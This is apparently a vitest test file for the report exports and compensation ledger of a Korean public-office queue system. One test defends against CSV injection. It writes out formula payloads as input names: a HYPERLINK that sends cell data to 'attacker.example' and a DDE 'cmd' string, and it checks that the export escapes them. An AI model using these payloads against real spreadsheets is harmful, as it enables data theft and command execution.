import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CommandResult } from '../../shared/contract/commands';
import type { ReportSummary } from '../../shared/report/summary';
import { charterPresets } from '../../shared/charter/presets';
import type { Compensation, Ledger, Office } from '../../shared/contract/views';
import { verifyEventChain } from '../../db/event-chain';
import { openReadOnly } from '../../db/open-database';
import { startTestHub, type TestHub } from '../support/test-hub';

let t: TestHub;
const DAY = '2026-11-23';

/** Serves one visit at desk 1 whose time-to-attend is `attendMs`. */
async function serveVisit(attendMs: number): Promise<number> {
  const issued = (await t.post('issueTicket', { departmentId: 1 }, null)).json as {
    result: CommandResult<'issueTicket'>;
  };
  const id = issued.result.ticket.id;
  t.clock.advance(30_000);
  await t.post('callNext', { deskId: 1 });
  t.clock.advance(attendMs);
  await t.post('acknowledgeArrival', { deskId: 1, ticketId: id });
  t.clock.advance(120_000);
  await t.post('finishService', { deskId: 1, ticketId: id, note: '안내, "완료"' });
  return id;
}

beforeEach(async () => {
  t = await startTestHub();
  // Times-to-attend against the 10-second target of the 인제군 charter; exactly 10 s keeps it.
  for (const ms of [4_000, 10_000, 10_001, 12_000, 20_000]) await serveVisit(ms);
  await t.post('issueTicket', { departmentId: 1 }, null);
  await t.post('callNext', { deskId: 2 });
  const last = (await t.get('/api/v1/desks/2')).json as { atDesk: { id: number }[] };
  await t.post('markNoShow', { deskId: 2, ticketId: last.atDesk[0]!.id });
});
afterEach(async () => {
  await t.dispose();
});

async function download(format: string): Promise<{ status: number; type: string | null; body: Buffer }> {
  const response = await fetch(`${t.url}/api/v1/reports/visits?from=${DAY}&format=${format}`, {
    headers: { authorization: `Bearer ${t.managerToken}` },
  });
  return {
    status: response.status,
    type: response.headers.get('content-type'),
    body: Buffer.from(await response.arrayBuffer()),
  };
}

/** Enough of RFC 4180 for our own files: quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else if (quoted || c !== '\r') {
      field += c;
    }
  }
  return rows;
}

describe('the summary of a day', () => {
  it('matches figures computed by hand', async () => {
    const reply = await t.get(`/api/v1/reports/summary?from=${DAY}`, t.managerToken);
    const summary = reply.json as ReportSummary;
    expect(summary.total).toMatchObject({ visitors: 6, served: 5, noShows: 1 });
    // Sorted: 4 000, 10 000, 10 001, 12 000, 20 000 → median 10 001; p90 = rank ⌈4.5⌉ = 5th.
    expect(summary.total.attend).toEqual({
      measured: 5,
      medianMs: 10_001,
      p90Ms: 20_000,
      worstMs: 20_000,
      targeted: 5,
      within: 2,
      withinShare: 0.4,
    });
    expect(summary.desks.map((d) => [d.labelKo, d.visitors])).toEqual([
      ['종합민원실 1번 창구', 5],
      ['종합민원실 2번 창구', 1],
    ]);
    // Five visitors waited 30 s each for their call; the no-show was called at once.
    expect(summary.hours.reduce((sum, h) => sum + h.waitingMs, 0)).toBe(150_000);
    expect(summary.asOf).toBe(t.clock.now());
  });

  it('is for managers only', async () => {
    expect((await t.get(`/api/v1/reports/summary?from=${DAY}`)).status).toBe(401);
    const desk = await t.signIn('desk.kim', '2580', 1);
    expect((await t.get(`/api/v1/reports/summary?from=${DAY}`, desk)).status).toBe(403);
    expect((await download('csv')).status).toBe(200);
  });
});

describe('the visit log export', () => {
  it('is a CSV that starts with a BOM and parses back to the visits', async () => {
    const file = await download('csv');
    expect(file.type).toBe('text/csv; charset=utf-8');
    expect([...file.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseCsv(file.body.toString('utf8').slice(1));
    expect(header).toContain('응대 대기(초)');
    expect(header).not.toContain('담당 직원');
    const col = (name: string) => header!.indexOf(name);
    expect(rows).toHaveLength(6);
    expect(rows.map((r) => r[col('번호표')])).toEqual(['A001', 'A002', 'A003', 'A004', 'A005', 'A006']);
    // 10,001 ms breaks the 10-second target, and reads so: rounded up to the tenth, never down.
    expect(rows.map((r) => r[col('응대 대기(초)')])).toEqual(['4.0', '10.0', '10.1', '12.0', '20.0', '']);
    expect(rows.map((r) => r[col('응대 목표 준수')])).toEqual(['Y', 'Y', 'N', 'N', 'N', '']);
    expect(rows.map((r) => r[col('결과')])).toEqual(['완료', '완료', '완료', '완료', '완료', '부재']);
    expect(rows[0]![col('발급 시각')]).toBe('2026-11-23 09:30:00');
    expect(rows[0]![col('응대 목표(초)')]).toBe('10.0');
  });

  it('opens names that look like formulas as text (CSV injection)', async () => {
    const office = (await t.get('/api/v1/office')).json as Office;
    const department = office.departments.find((d) => d.id === 1)!;
    const desk = office.desks.find((d) => d.id === 1)!;
    const defined = [];
    defined.push(
      await t.post('defineDepartment', {
        id: 1,
        prefix: department.prefix,
        nameKo: '=HYPERLINK("http://attacker.example/?"&A1,"민원")',
        nameEn: department.nameEn,
        tasks: department.tasks.map(({ nameKo, nameEn, keywords, id }) => ({ id, nameKo, nameEn, keywords })),
      }),
    );
    defined.push(
      await t.post('defineDesk', {
        id: 1,
        departmentId: 1,
        nameKo: "@SUM(1+1)*cmd|' /C calc'!A0",
        nameEn: desk.nameEn,
        mode: desk.mode,
      }),
    );
    defined.push(await t.post('defineStaff', { id: 3, login: 'manager.lee', name: '-2+3', role: 'manager' }));
    expect(defined.map((r) => r.status)).toEqual([200, 200, 200]);
    await t.post('setExportStaffNames', { include: true });
    const text = (await download('csv')).body.toString('utf8').slice(1);
    const [header, first] = parseCsv(text);
    const cell = (name: string) => first![header!.indexOf(name)];
    expect(cell('부서')).toBe(`'=HYPERLINK("http://attacker.example/?"&A1,"민원")`);
    expect(cell('창구')).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(cell('담당 직원')).toBe("'-2+3");

    // A spreadsheet library reads every cell of the file as a value, none as a formula.
    const workbook = new ExcelJS.Workbook();
    const sheet = await workbook.csv.read(Readable.from([text]));
    const values = sheet.getSheetValues().flatMap((row) => (Array.isArray(row) ? row.slice(1) : []));
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
    expect(values.filter((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });

  it('names staff only when the office allows it', async () => {
    expect((await t.get('/api/v1/settings/export', t.managerToken)).json).toEqual({
      includeStaffNames: false,
      staffFigures: false,
      approvalBoxes: false,
    });
    await t.post('setExportStaffNames', { include: true });
    expect((await t.get('/api/v1/settings/export', t.managerToken)).json).toEqual({
      includeStaffNames: true,
      staffFigures: false,
      approvalBoxes: false,
    });
    const [header, first] = parseCsv((await download('csv')).body.toString('utf8').slice(1));
    expect(first![header!.indexOf('담당 직원')]).toBe('이정훈');
  });

  it('is an XLSX with a summary sheet and the visit log, with real times', async () => {
    const file = await download('xlsx');
    expect(file.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.body as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['요약', '만족도', '민원·신고', '방문 기록']);
    const detail = workbook.getWorksheet('방문 기록')!;
    const headers = (detail.getRow(1).values as unknown[]).slice(1);
    const cell = (row: number, name: string) => detail.getRow(row).getCell(headers.indexOf(name) + 1).value;
    expect(detail.rowCount).toBe(7);
    expect(cell(2, '발급 시각')).toBeInstanceOf(Date);
    expect((cell(2, '발급 시각') as Date).toISOString()).toBe('2026-11-23T09:30:00.000Z'); // Seoul wall clock
    // A duration is a time cell: Excel's day 0 (1899-12-30) plus 4 seconds, shown as 0:00:04.
    expect((cell(2, '응대 대기') as Date).toISOString()).toBe('1899-12-30T00:00:04.000Z');
    expect(detail.getRow(2).getCell(headers.indexOf('응대 대기') + 1).numFmt).toBe('[h]:mm:ss.0');
    expect(cell(2, '번호표')).toBe('A001');
    const summary = workbook.getWorksheet('요약')!;
    const total = summary.getRow(5).values as unknown[];
    // Visitors add up: 6 = 5 served + 1 absent + 0 transferred + 0 closed at the day's end.
    expect(total.slice(1, 10)).toEqual(['전체', '전체', '응대 대기', 6, 5, 1, 0, 0, 5]);
    expect(total[15]).toBe(0.4);
  });

  it('is a printable PDF whose text holds the day’s totals', async () => {
    const file = await download('pdf');
    expect(file.type).toBe('application/pdf');
    expect(file.body.subarray(0, 5).toString()).toBe('%PDF-');
    const path = join(t.dataDir, 'report.pdf');
    writeFileSync(path, file.body);
    const text = execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8' });
    expect(text).toContain('서비스 이행기준 달성도');
    expect(text).toContain('방문 6건');
    expect(text).toContain('완료 5건');
    expect(text).toContain('목표 준수 2/5 (40.0%)');
    expect(text).toContain('A005');
    const reader = openReadOnly(t.dbFile);
    const verdict = verifyEventChain(reader);
    reader.close();
    expect(verdict.ok).toBe(true);
    expect(text.replace(/\s+/g, '')).toContain(verdict.ok ? verdict.lastHash : 'unreachable');
  });

  it('shows one visit’s time the same way in the CSV, the XLSX and the PDF: 10.6 s is 0:10.6, breached', async () => {
    const id = await serveVisit(10_600);
    const [header, ...rows] = parseCsv((await download('csv')).body.toString('utf8').slice(1));
    const row = rows.find((r) => r[header!.indexOf('번호표')] === 'A007')!;
    expect([row[header!.indexOf('응대 대기(초)')], row[header!.indexOf('응대 목표 준수')]]).toEqual([
      '10.6',
      'N',
    ]);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await download('xlsx')).body as unknown as ArrayBuffer);
    const detail = workbook.getWorksheet('방문 기록')!;
    const headers = (detail.getRow(1).values as unknown[]).slice(1);
    const cell = detail.getRow(8).getCell(headers.indexOf('응대 대기') + 1);
    expect(detail.getRow(8).getCell(headers.indexOf('번호표') + 1).value).toBe('A007');
    expect((cell.value as Date).toISOString()).toBe('1899-12-30T00:00:10.600Z');
    expect(cell.numFmt).toBe('[h]:mm:ss.0');

    const path = join(t.dataDir, `visit-${id}.pdf`);
    writeFileSync(path, (await download('pdf')).body);
    const text = execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8' });
    // The worst time of the day, and the visit's line among the breaches, against its 10-second target.
    expect(text).toContain('최장 0:20.0');
    expect(text).toMatch(/A007\s.*응대 대기\s+0:10\.6\s+10초/);
  });

  it('refuses a bad range with a clear error', async () => {
    const reply = await t.get(`/api/v1/reports/visits?from=${DAY}&to=2026-11-01&format=csv`, t.managerToken);
    expect(reply).toMatchObject({ status: 400, json: { error: { code: 'invalid_input' } } });
  });
});

/** A visitor back for the day's first served visit, judged at desk 1 as caused by staff error. */
async function repeatVisitByStaffError(reason: string): Promise<Compensation> {
  const earlier = (await t.get('/api/v1/desks/1')).json as { finishedToday: { code: string }[] };
  const repeat = (
    await t.post('issueTicket', { departmentId: 1, repeatOfCode: earlier.finishedToday[0]!.code }, null)
  ).json as { result: CommandResult<'issueTicket'> };
  const judged = (
    await t.post('judgeRepeatVisit', {
      deskId: 1,
      ticketId: repeat.result.ticket.id,
      staffError: true,
      reason,
    })
  ).json as { result: CommandResult<'judgeRepeatVisit'> };
  return judged.result.compensation!;
}

describe('the compensation ledger', () => {
  it('goes pending → approved → paid, and totals the month', async () => {
    const compensation = await repeatVisitByStaffError('서류 안내 누락');
    const id = compensation.id;
    expect((await t.post('markCompensationPaid', { compensationId: id, reference: 'X' })).json).toMatchObject(
      {
        error: { code: 'illegal_transition' },
      },
    );
    await t.post('approveCompensation', { compensationId: id });
    await t.post('markCompensationPaid', { compensationId: id, reference: '문화상품권 1234-5678' });
    const ledger = (await t.get('/api/v1/compensations?month=2026-11', t.managerToken)).json as Ledger;
    expect(ledger.entries).toEqual([
      expect.objectContaining({ status: 'paid', amountWon: 5_000, paymentReference: '문화상품권 1234-5678' }),
    ]);
    expect(ledger.totals.paid).toEqual({ count: 1, won: 5_000 });
    const csv = (await download('csv')).body.toString('utf8');
    expect(csv).toContain('문화상품권,5000,지급 완료');
  });

  it('asks for the amount where the charter leaves it to a regulation', async () => {
    const { presetId, ...mokpo } = charterPresets.mokpo;
    await t.post('applyCharter', { presetId, ...mokpo });
    t.clock.advance(60_000);
    const compensation = await repeatVisitByStaffError('재발급');
    const id = compensation.id;
    expect(compensation).toMatchObject({ kind: 'travelCost', amountWon: null });
    expect((await t.post('approveCompensation', { compensationId: id })).json).toMatchObject({
      error: { code: 'amount_required' },
    });
    const approved = (await t.post('approveCompensation', { compensationId: id, amountWon: 4_800 })).json as {
      result: CommandResult<'approveCompensation'>;
    };
    expect(approved.result.compensation).toMatchObject({ status: 'approved', amountWon: 4_800 });
  });
});
